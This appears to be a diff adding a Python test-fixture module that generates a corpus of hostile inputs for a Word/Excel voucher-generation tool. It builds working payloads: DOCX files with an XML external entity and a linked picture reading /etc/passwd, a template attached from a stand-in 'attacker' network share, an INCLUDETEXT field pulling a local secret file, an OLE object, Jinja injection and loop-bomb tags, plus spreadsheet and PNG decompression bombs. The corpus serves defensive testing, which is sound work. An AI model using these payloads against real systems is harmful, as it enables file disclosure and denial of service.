@@ -1,0 +1,247 @@
+"""The hostile corpus: every bad input we were shown, and its cousins, generated (never stored as blobs).
+
+Each function writes one case into a folder and returns its path.  The tests in this folder
+call them; `python tests/hostile/corpus.py OUTDIR` writes them all for trying by hand.
+"""
+
+from __future__ import annotations
+
+import csv
+import datetime as dt
+import io
+import shutil
+import struct
+import sys
+import zipfile
+import zlib
+from pathlib import Path
+
+sys.path.insert(0, str(Path(__file__).resolve().parent.parent))  # tests/, for support.*
+
+from support.synthetic import make_candidates, make_photo, write_roster_xlsx  # noqa: E402
+
+from fjvoucher.layout import FIELDS  # noqa: E402
+from fjvoucher.word.master import default_master  # noqa: E402
+
+REL_IMAGE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/image"
+
+
+def rows(count: int = 3, seed: int = 61) -> list[dict]:
+    """Return valid candidates to spoil."""
+    return make_candidates(count, seed=seed)
+
+
+def roster(folder: Path, data: list[dict], name: str = "r.xlsx", **kwargs) -> Path:
+    return write_roster_xlsx(folder / name, data, **kwargs)
+
+
+# --- masters -------------------------------------------------------------------------------------
+
+def rewrite_master(target: Path, change=lambda name, data: data, extra: dict[str, bytes] | None = None) -> Path:
+    """Copy the bundled master to `target`, every part through change(name, bytes), adding `extra` parts."""
+    with zipfile.ZipFile(default_master()) as src, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as dst:
+        for item in src.infolist():
+            dst.writestr(item.filename, change(item.filename, src.read(item)))
+        for name, data in (extra or {}).items():
+            dst.writestr(name, data)
+    return target
+
+
+def _with_body(target: Path, xml: str) -> Path:
+    def change(name, data):
+        if name == "word/document.xml":
+            return data.replace(b"<w:body>", b"<w:body>" + xml.encode("utf-8"), 1)
+        return data
+    return rewrite_master(target, change)
+
+
+def master_linked_picture(folder: Path) -> Path:
+    """A picture linked, not embedded, to a local file: LibreOffice would embed /etc/passwd in every PDF."""
+    def change(name, data):
+        if name == "word/_rels/document.xml.rels":
+            return data.replace(b"</Relationships>", f'<Relationship Id="rIdEvil" Type="{REL_IMAGE}" '
+                                f'Target="file:///etc/passwd" TargetMode="External"/></Relationships>'.encode())
+        return data
+    return rewrite_master(folder / "linked.docx", change)
+
+
+def master_attached_template(folder: Path) -> Path:
+    """settings.xml attaching a template on a network share."""
+    rels = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.'
+            b'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.'
+            b'openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
+            b'Target="file://attacker/share/t.dotm" TargetMode="External"/></Relationships>')
+    return rewrite_master(folder / "attached.docx", extra={"word/_rels/settings.xml.rels": rels})
+
+
+def master_entity(folder: Path) -> Path:
+    """An XML external entity in document.xml."""
+    def change(name, data):
+        if name == "word/document.xml":
+            return data.replace(b"?>", b'?><!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>', 1)
+        return data
+    return rewrite_master(folder / "entity.docx", change)
+
+
+def master_include_field(folder: Path) -> Path:
+    """An INCLUDETEXT field that pulls a local file into the document."""
+    return _with_body(folder / "include.docx", '<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;C:\\\\secret.txt&quot; ">'
+                      '<w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>')
+
+
+def master_ole_object(folder: Path) -> Path:
+    """An embedded OLE object."""
+    return _with_body(folder / "ole.docx", '<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:'
+                      'office" ProgID="Package"/></w:object></w:r></w:p>')
+
+
+def master_malformed(folder: Path) -> Path:
+    """document.xml cut in the middle: unreadable DOCX would be written from it."""
+    def change(name, data):
+        return data[: len(data) // 2] if name == "word/document.xml" else data
+    return rewrite_master(folder / "malformed.docx", change)
+
+
+def master_with_tags(folder: Path, tags: str, name: str = "tags.docx") -> Path:
+    """The bundled master with `tags` (Jinja) added as a paragraph."""
+    escaped = tags.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
+    return _with_body(folder / name, f"<w:p><w:r><w:t>{escaped}</w:t></w:r></w:p>")
+
+
+def master_mergefield_malformed(folder: Path) -> Path:
+    """A Word MERGEFIELD master whose XML is broken."""
+    return _with_body(folder / "mf-broken.docx", '<w:p><w:fldSimple w:instr=" MERGEFIELD 姓名 "><w:r><w:t>«姓名»'
+                      '</w:t></w:r></w:fldSimple><w:p>')
+
+
+# --- rosters -------------------------------------------------------------------------------------
+
+def roster_far_cell(folder: Path) -> Path:
+    """A small .xlsx with one cell at XFD1048576: the reader would allocate the whole sheet (512 GB)."""
+    path = roster(folder, rows(2), "far.xlsx")
+    with zipfile.ZipFile(path) as src:
+        parts = {i.filename: src.read(i) for i in src.infolist()}
+    sheet = next(n for n in parts if n.startswith("xl/worksheets/sheet"))
+    parts[sheet] = parts[sheet].replace(
+        b"</sheetData>", b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row></sheetData>')
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as dst:
+        for name, data in parts.items():
+            dst.writestr(name, data)
+    return path
+
+
+def roster_huge_string(folder: Path, megabytes: int = 300) -> Path:
+    """A small .xlsx whose shared strings unpack to `megabytes` MB (one enormous string)."""
+    path = roster(folder, rows(2), "huge.xlsx")
+    with zipfile.ZipFile(path) as src:
+        parts = {i.filename: src.read(i) for i in src.infolist()}
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as dst:
+        for name, data in parts.items():
+            dst.writestr(name, data)
+        with dst.open("xl/sharedStrings.xml", "w", force_zip64=True) as out:
+            out.write(b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>')
+            chunk = b"a" * (1 << 20)
+            for _ in range(megabytes):
+                out.write(chunk)
+            out.write(b"</t></si></sst>")
+    return path
+
+
+def roster_hidden_first_sheet(folder: Path) -> Path:
+    """A workbook whose first sheet is hidden (old data) and whose second, active sheet is this month's."""
+    from openpyxl import Workbook
+
+    book = Workbook()
+    old = book.active
+    old.title = "旧名册"
+    old.append(["作废的数据"])
+    old.sheet_state = "hidden"
+    current = book.create_sheet("本月名册")
+    current.append([f.header for f in FIELDS])
+    for row in rows(3):
+        current.append([row[f.key] for f in FIELDS])
+    book.active = 1
+    path = folder / "hidden.xlsx"
+    book.save(path)
+    return path
+
+
+def csv_file(folder: Path, data: list[dict], name: str, encoding: str, delimiter: str = ",",
+             quoting: int = csv.QUOTE_MINIMAL) -> Path:
+    """Write `data` as CSV in `encoding` (utf-16 gets its BOM, as Excel's "Unicode 文本" has)."""
+    buffer = io.StringIO()
+    writer = csv.writer(buffer, delimiter=delimiter, quoting=quoting)
+    writer.writerow([f.header for f in FIELDS])
+    for row in data:
+        writer.writerow([str(row[f.key]) for f in FIELDS])
+    path = folder / name
+    path.write_bytes(buffer.getvalue().encode(encoding))
+    return path
+
+
+def truncated_xlsx(folder: Path) -> Path:
+    path = roster(folder, rows(3), "truncated.xlsx")
+    path.write_bytes(path.read_bytes()[:1500])
+    return path
+
+
+# --- photos --------------------------------------------------------------------------------------
+
+def photo_rotated(path: Path) -> Path:
+    """A phone photo stored landscape (413×295) with EXIF orientation 6: it shows upright as 295×413."""
+    from PIL import Image
+
+    upright = Image.open(make_photo(path.with_suffix(".tmp.jpg"), seed=3))
+    sideways = upright.transpose(Image.Transpose.ROTATE_90)
+    exif = Image.Exif()
+    exif[0x0112] = 6
+    sideways.save(path, "JPEG", exif=exif.tobytes())
+    path.with_suffix(".tmp.jpg").unlink()
+    return path
+
+
+def photo_truncated(path: Path) -> Path:
+    make_photo(path, seed=4)
+    path.write_bytes(path.read_bytes()[: path.stat().st_size // 2])
+    return path
+
+
+def png_claiming(path: Path, width: int, height: int) -> Path:
+    """A tiny PNG that claims width × height pixels (a decompression bomb when large)."""
+    def chunk(kind: bytes, data: bytes) -> bytes:
+        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
+
+    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
+    path.write_bytes(b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", zlib.compress(b""))
+                     + chunk(b"IEND", b""))
+    return path
+
+
+# --- the whole corpus, for trying by hand --------------------------------------------------------
+
+def write_all(folder: Path) -> list[Path]:
+    """Write every case into `folder`; return their paths."""
+    folder.mkdir(parents=True, exist_ok=True)
+    made = [master_linked_picture(folder), master_attached_template(folder), master_entity(folder),
+            master_include_field(folder), master_ole_object(folder), master_malformed(folder),
+            master_with_tags(folder, "{% for i in range(100000) %}{% for j in range(100000) %}x{% endfor %}"
+                             "{% endfor %}", "loop.docx"),
+            master_with_tags(folder, "{{ {}.update }}", "address.docx"), master_mergefield_malformed(folder),
+            roster_far_cell(folder), roster_huge_string(folder, 64), roster_hidden_first_sheet(folder),
+            truncated_xlsx(folder), photo_rotated(folder / "rotated.jpg"), photo_truncated(folder / "half.jpg"),
+            png_claiming(folder / "bomb.png", 100_000, 100_000)]
+    spoiled = rows(4)
+    spoiled[0]["certificate_no"] = "٠٩٣٥٠١١٠٠١٥٠٠٠٠١"  # Arabic-Indic digits
+    spoiled[1]["occupation"] = "车工\n（三级）"
+    spoiled[2]["issue_date"] = dt.date(1950, 1, 1)
+    made.append(roster(folder, spoiled, "spoiled.xlsx"))
+    made.append(csv_file(folder, rows(3), "unicode.txt", "utf-16", delimiter="\t"))
+    return made
+
+
+if __name__ == "__main__":
+    target = Path(sys.argv[1] if len(sys.argv) > 1 else "hostile-corpus")
+    if target.exists():
+        shutil.rmtree(target)
+    for made in write_all(target):
+        print(made)
